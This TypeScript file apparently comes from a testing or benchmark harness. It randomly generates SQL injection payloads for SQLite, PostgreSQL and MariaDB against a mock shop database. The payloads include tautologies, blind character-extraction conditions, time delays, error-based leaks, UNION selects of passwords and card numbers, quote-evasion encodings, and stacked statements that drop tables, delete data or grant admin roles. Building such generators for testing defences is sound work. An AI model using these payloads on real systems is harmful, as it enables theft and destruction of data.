import type { Random } from '../../../lib/random.ts';
import type { Columns } from '../../oracle/sql/shape.ts';
import type { Dialect } from '../../oracle/sql/shop.ts';

/** A secret column, and a condition that picks one row of it. */
interface Secret {
  readonly table: string;
  readonly column: string;
  readonly one: string;
}

const texts: readonly Secret[] = [
  { table: 'users', column: 'password', one: 'id = 1' },
  { table: 'users', column: 'bio', one: 'id = 1' },
  { table: 'cards', column: 'number', one: 'id = 1' },
  { table: 'cards', column: 'holder', one: 'owner = 1' },
  { table: 'orders', column: 'item', one: 'owner = 1' },
  { table: 'products', column: 'name', one: 'released = 0 AND id = 50' },
  { table: 'comments', column: 'body', one: 'owner = 1' },
];

const numbers: readonly Secret[] = [
  { table: 'users', column: 'pin', one: 'id = 1' },
  { table: 'orders', column: 'amount', one: 'owner = 1' },
  { table: 'products', column: 'price', one: 'id = 50' },
];

const words = ['lamp', 'pen', 'x', 'zz', 'red', 'foo', 'qwe', 'tea', 'user', 'it', 'home', 'abc'];

/** Says things in one dialect of SQL, each time in other words. */
export class Speaker {
  readonly random: Random;
  readonly dialect: Dialect;
  /** The application spoils quotes: strings are made of numbers. */
  readonly hasQuotes: boolean;
  readonly #isLower: boolean;

  constructor(random: Random, dialect: Dialect, hasQuotes: boolean) {
    this.random = random;
    this.dialect = dialect;
    this.hasQuotes = hasQuotes;
    this.#isLower = random.chance(30);
  }

  /** Words of SQL, in the case of this attack. */
  k(text: string): string {
    return this.#isLower ? text.toLowerCase() : text;
  }

  word(): string {
    return `${this.random.pick(words)}${this.random.chance(40) ? this.random.below(100) : ''}`;
  }

  name(): string {
    const letters = 'abcdefghijklmnopqrstuvwxyz';
    return this.random
      .times(1 + this.random.below(6), () => this.random.pick([...letters]))
      .join('');
  }

  /** A string; of numbers where quotes are spoilt. */
  string(text: string): string {
    if (this.hasQuotes) return `'${text}'`;
    const codes = [...text].map((letter) => letter.charCodeAt(0));
    if (this.dialect === 'postgres') return codes.map((code) => `chr(${code})`).join('||');
    if (this.dialect === 'mariadb' && this.random.chance(60)) {
      return `0x${Buffer.from(text).toString('hex')}`;
    }
    return `char(${codes.join(',')})`;
  }

  /** A select that gives one secret. */
  secret(type: 'int' | 'text'): string {
    const { table, column, one } = this.random.pick(type === 'int' ? numbers : texts);
    const { random } = this;
    const alias = random.chance(20) ? ` ${this.name()}x` : '';
    const all =
      this.dialect === 'postgres'
        ? `string_agg(${column},${this.string(',')})`
        : `group_concat(${column})`;
    const forms = [
      `SELECT ${column} FROM ${table}${alias} WHERE ${one}`,
      `SELECT ${column} FROM ${table}${alias} WHERE ${one} LIMIT 1`,
      `SELECT ${column} FROM ${table} ORDER BY 1${random.chance(50) ? ' DESC' : ''} LIMIT 1`,
      `SELECT ${random.pick(['max', 'min'])}(${column}) FROM ${table}${alias} WHERE ${one}`,
      ...(type === 'text'
        ? [`SELECT ${all} FROM ${table}${alias}`]
        : [`SELECT count(*) FROM cards`]),
    ];
    return this.k(random.pick(forms));
  }

  /** A condition that comes out otherwise where secrets are others. */
  condition(): string {
    const { random, dialect } = this;
    const text = `(${this.k('SELECT password FROM users WHERE ')}${random.pick(['id=1', `name=${this.string('admin')}`, 'id = 2'])})`;
    const number = `(${this.k('SELECT pin FROM users WHERE ')}id=${1 + random.below(5)})`;
    const middle = random.pick(['m', 'k', 'p', 'h']);
    const edge = random.pick(['a', 'z']);
    const first = random.pick(
      dialect === 'sqlite'
        ? [`substr(${text},1,1)`, `substring(${text},1,1)`]
        : [
            `substr(${text},1,1)`,
            `left(${text},1)`,
            `substring(${text},1,1)`,
            `mid(${text},1,1)`,
          ].slice(0, dialect === 'mariadb' ? 4 : 3),
    );
    const code = dialect === 'sqlite' ? 'unicode' : 'ascii';
    const limit = 4_000 + random.below(2_000);
    const forms = [
      `${first}=${this.string(edge)}`,
      `${first}>${this.string(middle)}`,
      `${text} LIKE ${this.string(`${edge}%`)}`,
      `${code}(${first})>${101 + random.below(15)}`,
      `length(${text})>${9 + random.below(2)}`,
      `${number}>${limit}`,
      `${number} BETWEEN 1000 AND ${limit}`,
      `(SELECT count(*) FROM cards)>${2 + random.below(3)}`,
      `EXISTS(SELECT 1 FROM users WHERE id=1 AND password<${this.string(middle)})`,
      `EXISTS (SELECT * FROM users WHERE pin>${limit})`,
      `${number} IN (1111,1112,1113,1114,1115)`,
      `CASE WHEN ${number}>${limit} THEN 1 ELSE 0 END=1`,
      `${limit}<(SELECT max(pin) FROM users WHERE role=${this.string('admin')})`,
      `${first} NOT IN (${this.string('a')},${this.string('b')})`,
    ];
    return this.k(random.pick(forms));
  }

  tautology(): string {
    const { random } = this;
    const n = 1 + random.below(9_000);
    const w = this.string(this.word());
    const forms = [
      `${n}=${n}`,
      `${n}<>${n + 1}`,
      `${n + 3}>${n}`,
      `${w}=${w}`,
      `${w} LIKE ${w}`,
      `NOT ${n}=${n + 1}`,
      `${n} IN (${n},${n + 1})`,
      `${n} BETWEEN ${n - 1} AND ${n + 1}`,
      `${n} IS NOT NULL`,
      `EXISTS(SELECT ${n})`,
      `length(${w})>0`,
      `(SELECT ${n})=${n}`,
      `${n}+1=${n + 1}`,
      ...(this.dialect === 'postgres' ? ['true', 'NOT false'] : ['1', `${n}`, 'true']),
    ];
    return this.k(random.pick(forms));
  }

  /** An expression that waits, or calls what no value should call. */
  delay(): string {
    const { random } = this;
    const seconds = 2 + random.below(9);
    if (this.dialect === 'sqlite') {
      return random.pick([
        `sleep(${seconds})`,
        `load_extension(${this.string(`${this.name()}.so`)})`,
        `randomblob(${seconds}00000000)`,
        `length(hex(randomblob(${seconds}00000000)))`,
        `readfile(${this.string(`${this.name()}.txt`)})`,
        `upper(hex(zeroblob(${seconds}0000000)))`,
      ]);
    }
    if (this.dialect === 'postgres') {
      return random.pick([
        `(${this.k('SELECT ')}1 ${this.k('FROM ')}pg_sleep(${seconds}))`,
        `(${this.k('SELECT ')}count(*) ${this.k('FROM ')}pg_sleep(${seconds}))`,
        `length(pg_sleep(${seconds})::text)`,
        `(${this.k('SELECT ')}length(${this.k('CAST')}(pg_sleep(${seconds}) ${this.k('AS')} text)))`,
      ]);
    }
    return random.pick([
      `sleep(${seconds})`,
      `SLEEP(${seconds})`,
      `(${this.k('SELECT ')}sleep(${seconds}))`,
      `benchmark(${seconds}0000000,md5(${random.below(99)}))`,
      `(${this.k('SELECT ')}1 ${this.k('FROM ')}(${this.k('SELECT ')}sleep(${seconds}))${this.name()}x)`,
    ]);
  }

  /** An expression whose error tells a secret. */
  error(): string {
    const { random } = this;
    const secret = `(${this.secret('text')})`;
    if (this.dialect === 'sqlite') {
      const boom = random.pick(['abs(-9223372036854775807-1)', `json(${this.string('{')})`]);
      return random.pick([
        `json_extract(${this.string('{}')},${secret})`,
        `${this.k('CASE WHEN')} ${this.condition()} ${this.k('THEN')} ${boom} ${this.k('ELSE')} 1 ${this.k('END')}`,
        `json_set(${this.string('{}')},${secret},1)`,
      ]);
    }
    if (this.dialect === 'postgres') {
      return random.pick([
        `${this.k('CAST')}(${secret} ${this.k('AS')} int)`,
        `${secret}::${random.pick(['int', 'numeric', 'integer', 'date', 'float'])}`,
        `1/(${this.k('CASE WHEN')} ${this.condition()} ${this.k('THEN')} 0 ${this.k('ELSE')} 1 ${this.k('END')})`,
        `${this.k('CAST')}(chr(126)||${secret} ${this.k('AS')} numeric)`,
      ]);
    }
    return random.pick([
      `extractvalue(${random.below(99)},concat(0x7e,${secret}))`,
      `updatexml(${random.below(99)},concat(0x7e,${secret},0x7e),1)`,
      `extractvalue(1,concat(char(126),${this.k('version()')}))`,
      `(${this.k('SELECT')} 1 ${this.k('FROM')} (${this.k('SELECT')} count(*),concat(${secret},floor(rand(0)*2))${this.name()}q ${this.k('FROM')} information_schema.tables ${this.k('GROUP BY')} 2)${this.name()}y)`,
    ]);
  }

  /** `UNION SELECT` of secrets in the types of the columns. */
  union(columns: Columns): string {
    const { random } = this;
    const { table, column, one } = random.pick(texts);
    const at = columns.indexOf('text');
    const list = columns.map((type, i) => {
      if (i === at) return random.chance(15) ? `(${this.secret('text')})` : column;
      if (type === 'int')
        return random.pick([String(random.below(100)), 'NULL', `(${this.secret('int')})`]);
      return random.pick(['NULL', this.string(this.word()), column]);
    });
    if (at < 0 && columns.length > 0) list[0] = `(${this.secret('int')})`;
    const all = random.chance(40) ? ' ALL' : '';
    const where = random.pick(['', '', ` WHERE ${one}`, ` WHERE ${this.tautology()}`, ' LIMIT 5']);
    const from = this.k(` FROM ${table}${where}`);
    return `${this.k(`UNION${all} SELECT`)} ${this.k(list.join(random.pick([',', ', '])))}${from}`;
  }

  /** A separate statement that changes or destroys. */
  statement(): string {
    const { random, dialect } = this;
    const id = 1 + random.below(6);
    const forms = [
      `UPDATE users SET role=${this.string('admin')} WHERE id=7`,
      `UPDATE users SET password=${this.string(this.word())} WHERE id=${id}`,
      `DELETE FROM ${random.pick(['cards', 'users', 'orders', 'comments'])}`,
      `DELETE FROM users WHERE id=${id}`,
      `INSERT INTO comments VALUES(${id},${this.string(this.word())},1)`,
      `INSERT INTO users(id,name,role) VALUES(${100 + id},${this.string(this.word())},${this.string('admin')})`,
      `DROP TABLE ${random.pick(['cards', 'orders', 'comments'])}`,
      `CREATE TABLE ${this.name()}t AS SELECT * FROM users`,
      `ALTER TABLE cards RENAME TO ${this.name()}t`,
      ...(dialect === 'sqlite'
        ? [
            `ATTACH DATABASE ${this.string(`${this.name()}.php`)} AS ${this.name()}d`,
            `VACUUM INTO ${this.string(`${this.name()}.db`)}`,
            `SELECT ${this.delay()}`,
            `REPLACE INTO users(id,name) VALUES(${id},${this.string(this.word())})`,
          ]
        : ['TRUNCATE TABLE cards', `SELECT ${this.delay()}`]),
    ];
    return this.k(random.pick(forms));
  }

  /** A comment that cuts off the rest of the statement. */
  terminator(): string {
    const { random, dialect } = this;
    const common = [' -- ', '-- ', `-- ${this.name()}`, ' --\t', ';-- ', '; -- -'];
    if (dialect === 'mariadb')
      return random.pick([...common, '#', ' #', `#${this.name()}`, ';#', '-- -']);
    const bare = [...common, '--', ' --', `--${this.name()}`, ';--'];
    return random.pick(dialect === 'sqlite' ? [...bare, '/*', ' /*', ';\0'] : bare);
  }
}
